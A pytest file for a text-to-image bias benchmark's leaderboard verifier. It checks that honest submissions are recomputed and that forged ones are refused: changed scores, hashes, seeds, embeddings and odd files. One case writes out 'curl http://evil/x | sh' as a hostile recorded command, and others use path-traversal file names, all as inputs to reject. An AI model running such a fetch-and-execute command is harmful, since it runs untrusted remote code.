"""Submissions that are what they say, and many that are not."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from t2ibench import evaluate
from t2ibench.apps.leaderboard.packing import pack
from t2ibench.apps.leaderboard.submission import read_manifest
from t2ibench.apps.leaderboard.verify import verify
from t2ibench.errors import T2IBenchError
from t2ibench.pipeline.progress import SilentReporter
from t2ibench.results.files import read_results
from t2ibench.store.evidence import text_key
from tests.apps.leaderboard.forging import (
    edit,
    edit_attempts,
    edit_embeddings,
    edit_table,
    refusal,
    seal,
    set_in,
    word,
)

Cli = Callable[..., tuple[int, str, str]]


def test_an_honest_submission_is_recomputed(packed: Path, run: Path) -> None:
    verdict = verify(packed)
    assert (verdict.level, verdict.problems, verdict.tasks) == ("recomputed", [], 3)
    assert verdict.seed is None and verdict.parts == {}
    assert {"environment", "settings", "revision"} <= set(verdict.stated)
    ours, theirs = read_results(run), read_results(packed)
    for name, task in ours.tasks.items():
        value = theirs.tasks[name].headline.value
        assert value == pytest.approx(task.headline.value, abs=0.02), name
    assert not list(packed.rglob("*.png"))


def test_vibex_is_recomputed(tmp_path: Path) -> None:
    evaluate("toyland", "vibex_training", images_per_prompt=3, output_dir=tmp_path)
    verdict = verify(pack(tmp_path / "toyland", tmp_path / "submissions", SilentReporter()))
    assert (verdict.level, verdict.problems, verdict.tasks) == ("recomputed", [], 1)


def test_packing_twice_gives_the_same_bytes(run: Path, packed: Path, tmp_path: Path) -> None:
    again = pack(run, tmp_path, SilentReporter())
    names = {path.relative_to(packed) for path in packed.rglob("*") if path.is_file()}
    assert names == {path.relative_to(again) for path in again.rglob("*") if path.is_file()}
    assert all((packed / name).read_bytes() == (again / name).read_bytes() for name in names)


def test_without_evidence_it_is_refused(submission: Path) -> None:
    (submission / "evidence.db").unlink()
    seal(submission)
    assert "evidence.db is missing: every score is recomputed" in refusal(submission)


def swap_rows(_: list[str], rows: Any) -> Any:
    rows[[0, -1]] = rows[[-1, 0]]
    return rows


def swap_words(keys: list[str], rows: Any) -> Any:
    """Of the two sides of a test: everyday words may change places among each other."""
    one, other = (keys.index(text_key(word)) for word in ("Brad", "Darnell"))
    rows[[one, other]] = rows[[other, one]]
    return rows


OCCUPATIONS = ("tasks", "occupations_t2iat")
RESULTS: dict[str, tuple[Callable[[Any], Any], str]] = {
    "a better headline": (set_in(*OCCUPATIONS, "headline", "value", value=0.01), "headline.value"),
    "a narrower interval": (set_in(*OCCUPATIONS, "headline", "ci_low", value=0.2), "ci_low"),
    "another p-value": (set_in(*OCCUPATIONS, "headline", "p_holm", value=0.9), "p_holm"),
    "a score of one row": (
        set_in(*OCCUPATIONS, "by", 0, "scores", "association", "value", value=0.0), "by[0]",
    ),
    "more images than there are": (set_in(*OCCUPATIONS, "n_images", value=9999), "n_images"),
    "nothing left out": (
        set_in("tasks", "openbias_examples", "excluded", "unknown", value=0), "excluded.unknown",
    ),
    "a control that agrees": (
        lambda data: next(
            task["controls"]["shuffled"].update(contradicts="it does not") for task in
            data["tasks"].values() if "shuffled" in task["controls"]
        ), "controls.shuffled.contradicts",
    ),
    "a try": (set_in("limited", value=True), "--limit"),
    "a limit in one task": (set_in(*OCCUPATIONS, "settings", "limit", value=2), "--limit"),
    "few permutations": (
        set_in(*OCCUPATIONS, "settings", "n_permutations", value=99), "permutations",
    ),
    "another level": (set_in(*OCCUPATIONS, "settings", "level", value=0.5), "intervals are at 0.5"),
    "another task": (set_in(*OCCUPATIONS, "task_hash", value="0" * 64), "another version"),
    "another version": (set_in(*OCCUPATIONS, "version", value=7), "another version"),
    "a task nobody ships": (
        lambda data: data["tasks"].update(occupations_t2iap=data["tasks"].pop("occupations_t2iat")),
        "Did you mean 'occupations_t2iat'",
    ),
    "no task": (set_in("tasks", value={}), "no task"),
    "another model": (set_in("model", "fingerprint", value="0" * 64), "different models"),
    "another encoder": (
        set_in(*OCCUPATIONS, "settings", "encoders", value={"clip": "0" * 64}), "'clip'",
    ),
    "an unknown key": (set_in("mood", value="good"), "not a results file"),
    "not a number": (set_in(*OCCUPATIONS, "headline", "value", value="low"), "not a results file"),
    "failures hidden": (
        set_in(*OCCUPATIONS, "excluded", "failed", value=3), "complete the run",
    ),
    "somebody's shell": (
        set_in("command", value=["curl", "http://evil/x", "|", "sh"]),
        "not one that t2ibench writes: curl http://evil/x | sh",
    ),
    "another model in the command": (
        word("--model", "toy"), "names another model, or other arguments",
    ),
    "other numbers in the command": (
        word("--images-per-prompt", "50"), "says images_per_prompt = 50",
    ),
    "no numbers in the command": (
        word("--images-per-prompt", None), "says images_per_prompt = None",
    ),
    "another encoder in the command": (word("--encoder", "toy-clip"), "names other encoders"),
    "no judge in the command": (word("--judge", None), "names other judges"),
    "more tasks in the command": (word("--tasks", "all"), "tasks that it has no results of"),
    "fewer tasks in the command": (
        word("--tasks", "occupations_t2iat"), "its command does not name",
    ),
    "a task left out": (
        lambda data: data["tasks"].pop("weat_4_names_bertrand") and None,
        "such as weat_4_names_bertrand"),
    "another version of t2ibench": (
        set_in("t2ibench", value="9.9"), "different versions of t2ibench",
    ),
    "a long environment": (
        set_in("environment", "x", value="y" * 9000), "environment is too long",
    ),
    "a newer schema": (set_in("schema", value=99), "reads 1 to 3"),
    "a seed": (
        lambda data: [one["settings"].update(seed=7) for one in data["tasks"].values()] and None,
        "it was made with --seed 7; the leaderboard takes the default, 0",
    ),
}  # fmt: skip
ATTEMPTS: dict[str, tuple[Callable[[Any], Any], str]] = {
    "a missing image": (lambda rows: rows[:-1], "missing"),
    "an image too many": (lambda rows: [*rows, {**rows[0], "number": 77}], "belong to no task"),
    "an image of another prompt": (
        lambda rows: [*rows, {**rows[0], "text": "a bribe"}],
        "1 images belong to no task, such as 'a bribe'",
    ),
    "a chosen seed": (set_in(0, "seed", value=1), "required seed"),
    "a bad one called refused": (
        lambda rows: rows[0].update(status="refused", sha256=None), "the evidence gives",
    ),
    "a failure": (
        lambda rows: rows[0].update(status="failed", sha256=None), "ok, refused or filtered are",
    ),
    "no hash": (lambda rows: rows[0].update(sha256=None), "gives a SHA-256"),
    "a hash without an image": (lambda rows: rows[0].update(status="refused"), "gives a SHA-256"),
    "a hash of another kind": (lambda rows: rows[0].update(sha256="G" * 64), "gives a SHA-256"),
    "a second try": (lambda rows: [*rows, {**rows[0], "try": 1}], "holds no such image"),
    "a file": (lambda rows: rows[0].update(file="../x.png"), "names a file in its row of image"),
}  # fmt: skip
MANIFEST: dict[str, tuple[Callable[[Any], Any], str]] = {
    "a newer version": (set_in("version", value=5), "version"),
    "an older version": (set_in("version", value=3), "version"),
    "an unknown key": (set_in("mood", value="good"), "mood"),
    "no fingerprint": (set_in("fingerprint", value="abc"), "fingerprint"),
    "another name": (set_in("name", value="another"), "different models"),
    "no encoders": (set_in("encoders", value={}), "which submission.json lacks"),
    "another hash": (set_in("files", "results.json", value="0" * 64), "has changed"),
    "a file less": (lambda data: data["files"].pop("evidence.db") and None, "not listed"),
    "another revision": (set_in("revision", value="world 3"), "different revisions"),
    "a folder of images": (set_in("model", value="folder:/tmp"), "is not a model"),
}
CHANGED = {"results.json": RESULTS, "evidence.db": ATTEMPTS, "submission.json": MANIFEST}
EMBEDDINGS: dict[str, tuple[Callable[[list[str], Any], Any], str, str]] = {
    "two images swapped": (swap_rows, "images", "the evidence gives"),
    "two texts swapped": (swap_words, "texts", "the evidence gives"),
    "an image less": (lambda keys, rows: rows[: len(keys) - bool(keys.pop())], "images",
                      "has no embedding"),
    "a text less": (lambda keys, rows: rows[: len(keys) - bool(keys.pop())], "texts",
                    "have no embedding"),
    "not a number": (lambda _, rows: rows * np.nan, "images", "has no embedding"),
    "too long": (lambda _, rows: rows * 3, "images", "has no embedding"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "kind"), [(n, k) for n, kinds in CHANGED.items() for k in kinds])
def test_a_changed_file_is_refused(name: str, kind: str, submission: Path) -> None:
    change, message = CHANGED[name][kind]
    if name == "evidence.db":
        edit_attempts(submission, change)
    else:
        edit(submission, name, change)
    assert message in refusal(submission)


@pytest.mark.parametrize("kind", EMBEDDINGS)
def test_changed_embeddings_are_refused(kind: str, submission: Path) -> None:
    change, which, message = EMBEDDINGS[kind]
    edit_embeddings(submission, which, change)
    assert message in refusal(submission)


def test_sentences_are_those_of_the_evidence_whatever_a_submission_says(submission: Path) -> None:
    """Neither its words nor the choice among ties travels: what is shown is recomputed."""
    honest = read_results(submission).tasks["occupations_t2iat"]
    said: list[tuple[tuple[str, ...], Any]] = [
        (("warnings",), ["fine"]), (("headline", "direction"), "fine"), (("details",), {}),
    ]  # fmt: skip
    for place, value in said:
        edit(submission, "results.json", set_in(*OCCUPATIONS, *place, value=value))
    verdict = verify(submission)
    assert (verdict.level, verdict.problems) == ("recomputed", [])
    assert verdict.results is not None
    shown = verdict.results.tasks["occupations_t2iat"]
    assert shown == honest
    (part,) = verdict.paired["openbias_examples"].headline[:1]
    assert part.influence.variance > 0


def test_a_difference_of_arithmetic_is_none_and_a_larger_one_is(submission: Path) -> None:
    value = read_results(submission).tasks["occupations_t2iat"].headline.value
    assert value is not None
    edit(submission, "results.json", set_in(*OCCUPATIONS, "headline", "value", value=value + 1e-9))
    assert verify(submission).problems == []
    edit(submission, "results.json", set_in(*OCCUPATIONS, "headline", "value", value=value + 1e-5))
    assert "headline.value" in refusal(submission)


def test_agreement_with_the_prompts_is_recomputed_where_it_is_claimed(submission: Path) -> None:
    results = json.loads((submission / "results.json").read_text())
    name, task = next(
        (name, task) for name, task in results["tasks"].items() if task["text_image_alignment"]
    )
    (encoder,) = task["text_image_alignment"]
    place = ("tasks", name, "text_image_alignment")
    edit(submission, "results.json", set_in(*place, encoder, 0, "value", value=0.999))
    assert "text_image_alignment" in refusal(submission)
    edit(submission, "results.json", set_in(*place, encoder, 0, "value", value=1.5))
    assert "no mean of cosines" in refusal(submission)


def test_a_changed_answer_is_refused(submission: Path) -> None:
    def flip(rows: list[Any]) -> None:
        row = next(row for row in rows if row["answer"] in {"male", "female"})
        row["answer"] = "male" if row["answer"] == "female" else "female"

    edit_table(submission, "answers", flip)
    assert "the evidence gives" in refusal(submission)
    edit_table(submission, "answers", lambda rows: rows[0].update(answer="both") or rows)
    assert "with none of its classes" in refusal(submission)
    edit_table(submission, "answers", lambda rows: rows[1:])
    assert "has no answer" in refusal(submission)


def test_files_that_do_not_belong(submission: Path, tmp_path: Path) -> None:
    (submission / "results.json").write_text("{}")
    assert "has changed" in refusal(submission)
    seal(submission)
    assert "not a results file" in refusal(submission)
    shutil.rmtree(submission)
    assert "No such folder" in refusal(submission)


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("run.sh", "is not a file that a submission may contain"),
        ("evidence.db-wal", "is not a file that a submission may contain"),
        ("evidence.db-journal", "is not a file that a submission may contain"),
        ("tasks/../../x.yaml", "is not a file that a submission may contain"),
        ("tasks/Big Name.yaml", "is not a file that a submission may contain"),
    ],
)
def test_strange_files(name: str, message: str, submission: Path) -> None:
    path = submission / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("x")
    seal(submission)
    if ".." in name:
        path.unlink()
        edit(submission, "submission.json", lambda data: data["files"].update({name: "0" * 64}))
    assert message in refusal(submission)


def test_what_cannot_be_packed(run: Path, tmp_path: Path) -> None:
    quick: dict[str, Any] = {"n_permutations": 200, "n_bootstrap": 100, "output_dir": tmp_path}
    evaluate("toyland", "vibex_training", limit=1, images_per_prompt=2, **quick)
    with pytest.raises(T2IBenchError, match="--limit"):
        pack(tmp_path / "toyland", tmp_path / "out", SilentReporter())
    with pytest.raises(T2IBenchError, match="not a run folder"):
        pack(tmp_path / "nowhere", tmp_path / "out", SilentReporter())
    copy = Path(shutil.copytree(run, tmp_path / "copy"))
    edit_attempts(copy, lambda rows: rows[1:])
    with pytest.raises(T2IBenchError, match="1 images are missing"):
        pack(copy, tmp_path / "out", SilentReporter())


def test_a_run_without_its_image_files_packs_the_same(run: Path, tmp_path: Path) -> None:
    whole = pack(run, tmp_path / "whole", SilentReporter())
    copy = Path(shutil.copytree(run, tmp_path / "copy"))
    for path in (copy / "images").rglob("*.png"):
        path.unlink()
    bare = pack(copy, tmp_path / "bare", SilentReporter())
    assert read_manifest(bare).files == read_manifest(whole).files
    assert verify(bare).level == "recomputed"
    with pytest.raises(T2IBenchError, match=r"cannot be shown.*--generate-only"):
        pack(copy, tmp_path / "bare", SilentReporter(), thumbnails=2)
    assert verify(bare).level == "recomputed"  # what was packed before is still there
